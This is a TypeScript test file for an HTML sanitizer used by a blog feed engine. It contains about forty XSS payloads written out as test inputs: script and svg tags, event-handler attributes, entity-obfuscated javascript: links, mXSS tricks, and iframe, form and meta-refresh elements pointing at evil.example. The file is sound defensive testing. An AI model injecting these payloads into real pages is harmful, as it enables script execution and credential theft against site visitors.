import { isTag, type AnyNode } from "domhandler";
import { parseDocument } from "htmlparser2";
import { describe, expect, it } from "vitest";
import { sanitizeHtml } from "../../src/core/sanitize";

const BASE = "https://blog.example/reviews/ballerina/";
const ALLOWED = new Set([
  "p", "div", "br", "hr", "h2", "h3", "h4", "h5", "h6", "strong", "b", "em", "i", "u", "s", "del", "ins", "mark",
  "small", "sub", "sup", "blockquote", "q", "cite", "code", "pre", "ul", "ol", "li", "dl", "dt", "dd", "a",
  "img", "figure", "figcaption", "table", "thead", "tbody", "tfoot", "tr", "td", "th", "caption", "abbr",
]);

/** Every element of the output, so each vector is also checked structurally, not only by substring. */
function elementsOf(html: string) {
  const found: { name: string; attribs: Record<string, string> }[] = [];
  const walk = (nodes: AnyNode[]) => {
    for (const node of nodes) {
      if (isTag(node)) {
        found.push({ name: node.name, attribs: node.attribs });
        walk(node.children);
      }
    }
  };
  walk(parseDocument(html).children);
  return found;
}

function expectStructurallySafe(html: string) {
  for (const element of elementsOf(html)) {
    expect(ALLOWED.has(element.name), `element <${element.name}>`).toBe(true);
    for (const [name, value] of Object.entries(element.attribs)) {
      expect(name.startsWith("on"), `attribute ${name}`).toBe(false);
      if (name === "style") expect(element.name).toBe("img");
      if (name === "width") expect(value).toMatch(/^\d+$/);
      if (name === "data-notice") expect(["block", "inline", "withheld"]).toContain(value);
      if (name === "href" || name === "src") expect(new URL(value).protocol).toMatch(/^https?:$/);
    }
  }
}

// [label, input, substrings that must not survive (case-insensitive)]
const VECTORS: [string, string, string[]][] = [
  ["script element", "<p>a</p><script>alert(1)</script>", ["<script", "alert(1)"]],
  ["img onerror", "<img src=x onerror=alert(1)>", ["onerror", "alert"]],
  ["javascript: href", '<a href="javascript:alert(1)">x</a>', ["javascript", "alert"]],
  ["mixed-case scheme", '<a href="JaVaScRiPt:alert(1)">x</a>', ["javascript", "alert"]],
  ["tab entity inside scheme", '<a href="jav&#x09;ascript:alert(1)">x</a>', ["ascript", "alert"]],
  ["decimal entities", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>', ["alert", "&#"]],
  ["hex entities without semicolons", '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>', ["alert"]],
  ["leading control characters", '<a href=" &#14;  javascript:alert(1)">x</a>', ["javascript", "alert"]],
  ["newline inside scheme", '<a href="java\nscript:alert(1)">x</a>', ["script:", "alert"]],
  ["&colon; entity", '<a href="javascript&colon;alert(1)">x</a>', ["javascript", "alert"]],
  ["vbscript: href", '<a href="vbscript:msgbox(1)">x</a>', ["vbscript", "msgbox"]],
  ["data: html link", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', ["data:", "base64"]],
  ["data: image", '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="x">', ["data:", "<img"]],
  ["javascript: image", '<img src="jav\tascript:alert(1)">', ["ascript", "<img"]],
  ["svg with onload and script", "<svg onload=alert(1)><script>alert(1)</script><text>t</text></svg>", ["<svg", "onload", "alert"]],
  ["iframe", '<iframe src="https://evil.example/"></iframe>', ["<iframe", "evil.example"]],
  ["object", '<object data="https://evil.example/x.swf"><param name=a value=b></object>', ["<object", "evil.example", "<param"]],
  ["embed", '<embed src="https://evil.example/x.swf">', ["<embed", "evil.example"]],
  ["form and input", '<form action="https://evil.example/"><input name="password"><button>Go</button></form>', ["<form", "<input", "evil.example", "password"]],
  ["meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">', ["<meta", "evil.example"]],
  ["link stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">', ["<link", "evil.example"]],
  ["base href", '<base href="https://evil.example/"><a href="/p">p</a>', ["<base", "evil.example"]],
  ["style element", "<style>body{background:url(javascript:alert(1))}</style><p>x</p>", ["<style", "background", "javascript"]],
  ["inline style", '<p style="background:url(javascript:alert(1))">x</p>', ["style=", "javascript"]],
  ["onmouseover on a div", '<div onmouseover="alert(1)">x</div>', ["onmouseover", "alert"]],
  ["onclick on a kept link", '<a href="https://ok.example/" onclick="alert(1)">x</a>', ["onclick", "alert"]],
  ["body onload", "<body onload=alert(1)><p>x</p></body>", ["onload", "<body", "alert"]],
  ["details ontoggle", "<details open ontoggle=alert(1)><summary>s</summary>x</details>", ["ontoggle", "alert", "<details"]],
  ["source onerror in video", '<video><source onerror="alert(1)"></video>', ["onerror", "<video", "<source"]],
  ["srcset", '<img src="https://ok.example/a.jpg" srcset="javascript:alert(1) 2x">', ["srcset", "javascript"]],
  ["formaction", '<button formaction="javascript:alert(1)">x</button>', ["formaction", "javascript"]],
  ["math mXSS", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", ["onerror", "<math", "alert"]],
  ["noscript mXSS", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', ["onerror", "alert"]],
  ["comment", "<!--<img src=x onerror=alert(1)>--><p>x</p>", ["<!--", "onerror"]],
  ["CDATA", "<![CDATA[<script>alert(1)</script>]]><p>x</p>", ["<script", "alert"]],
  ["template", "<template><script>alert(1)</script></template>", ["<template", "<script", "alert"]],
  ["xmp", "<xmp><img src=x onerror=alert(1)></xmp>", ["<xmp", "onerror"]],
  ["split script tag", "<scr<script>ipt>alert(1)</script>", ["<script"]],
  ["uppercase tag", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", ["script", "evil.example"]],
  ["unquoted attribute break-out", '<a href=https://ok.example/ title=x onfocus=alert(1) autofocus>x</a>', ["onfocus", "autofocus", "alert"]],
];

describe("sanitizeHtml, XSS vectors", () => {
  it("covers at least 20 vectors", () => {
    expect(VECTORS.length).toBeGreaterThanOrEqual(20);
  });

  it.each(VECTORS)("removes %s", (_label, input, forbidden) => {
    const output = sanitizeHtml(input, BASE);
    for (const text of forbidden) expect(output.toLowerCase()).not.toContain(text.toLowerCase());
    expectStructurallySafe(output);
  });
});

describe("sanitizeHtml, what it keeps", () => {
  it("replaces an image's own style with exactly the fit-to-width one", () => {
    const output = sanitizeHtml('<img src="https://x.example/a.jpg" style="max-width:100%;height:auto;position:fixed">', BASE);
    expect(output).toBe('<img src="https://x.example/a.jpg" alt style="max-width:100%;height:auto">');
  });

  it("keeps the spoiler notice the engine inserts", () => {
    const notice = '<p><em>A spoiler was removed here. <a href="https://medium.com/p/7f3a9c2e1b4d">Read it on the original post</a>.</em></p>';
    expect(sanitizeHtml(notice, BASE)).toBe(
      '<p><em>A spoiler was removed here. <a href="https://medium.com/p/7f3a9c2e1b4d" rel="noopener">Read it on the original post</a>.</em></p>',
    );
  });

  it("absolutises relative links and images against the item link", () => {
    const output = sanitizeHtml('<a href="../the-call/">The Call</a><img src="/img/a.jpg" alt="Still">', BASE);
    expect(output).toContain('href="https://blog.example/reviews/the-call/"');
    expect(output).toContain('src="https://blog.example/img/a.jpg"');
    expect(output).toContain('alt="Still"');
  });

  it("gives images only src, alt, a pixel width and a fit-to-width style", () => {
    const output = sanitizeHtml('<img src="https://x.example/a.jpg" alt="A" width="2000" height="900" class="hero" style="float:left" title="t">', BASE);
    const [image] = elementsOf(output);
    expect(image?.name).toBe("img");
    expect(Object.keys(image?.attribs ?? {}).sort()).toEqual(["alt", "src", "style", "width"]);
    expect(image?.attribs.width).toBe("2000");
    expect(image?.attribs.style).toBe("max-width:100%;height:auto");
  });

  it("drops an image width that is not whole pixels", () => {
    for (const width of ["50%", "auto", "12em", "1e3", "-4", '1" onerror="x']) {
      const [image] = elementsOf(sanitizeHtml(`<img src="https://x.example/a.jpg" width='${width}'>`, BASE));
      expect(image?.attribs.width, width).toBeUndefined();
    }
  });

  it("keeps the spoiler engine's data-notice mark, and only its values, only where it puts it", () => {
    const html = '<p data-notice="block"><em data-notice="inline">x</em></p><li data-notice="withheld">y</li>'
      + '<p data-notice="evil">z</p><div data-notice="block">w</div><a href="https://x.example/" data-notice="inline">v</a>';
    expect(sanitizeHtml(html, BASE)).toBe(
      '<p data-notice="block"><em data-notice="inline">x</em></p><li data-notice="withheld">y</li>'
      + '<p>z</p><div>w</div><a href="https://x.example/" rel="noopener">v</a>',
    );
  });

  it("adds rel=noopener to links and drops target, class and id", () => {
    const output = sanitizeHtml('<a href="https://x.example/" target="_blank" class="c" id="i" rel="author">x</a>', BASE);
    expect(elementsOf(output)[0]?.attribs).toEqual({ href: "https://x.example/", rel: "noopener" });
  });

  it("emits only http(s) links: mailto:, tel: and links with credentials keep their text and lose their target", () => {
    expect(sanitizeHtml('<a href="mailto:jeff@example.com">mail</a>', BASE)).toBe("<a>mail</a>");
    expect(sanitizeHtml('<a href="tel:+15551234">call</a> <a href="sms:+15551234">text</a>', BASE)).toBe("<a>call</a> <a>text</a>");
    expect(sanitizeHtml('<a href="https://user:pw@x.example/">creds</a>', BASE)).toBe("<a>creds</a>");
    expect(sanitizeHtml('<img src="https://user:pw@x.example/a.png" alt="a">', BASE)).not.toContain("pw@");
    expect(sanitizeHtml('<a href="javascript:void(0)">plain words</a>', BASE)).toBe("<a>plain words</a>");
  });

  it("unwraps unknown elements, keeping their text, and demotes h1", () => {
    expect(sanitizeHtml("<p><span>kept</span> <font>words</font></p><h1>Title</h1>", BASE)).toBe("<p>kept words</p><h2>Title</h2>");
  });

  it("turns HTML5 sectioning elements, which Yahoo drops, into divs so sections stay apart", () => {
    const html = "<article><header>Head</header><section>One</section><aside>Two</aside><footer>End</footer></article><main><nav>N</nav></main>";
    expect(sanitizeHtml(html, BASE)).toBe("<div><div>Head</div><div>One</div><div>Two</div><div>End</div></div><div><div>N</div></div>");
  });

  it("keeps non-ASCII text as UTF-8 and escapes markup in text", () => {
    expect(sanitizeHtml("<p>Jun Jong-seo “Burning” é &lt;b&gt; &amp;</p>", BASE)).toBe("<p>Jun Jong-seo “Burning” é &lt;b&gt; &amp;</p>");
  });

  it("keeps table structure with span attributes only", () => {
    expect(sanitizeHtml('<table border=1><tr><td colspan="2" bgcolor="red">x</td></tr></table>', BASE)).toBe(
      '<table><tr><td colspan="2">x</td></tr></table>',
    );
  });
});
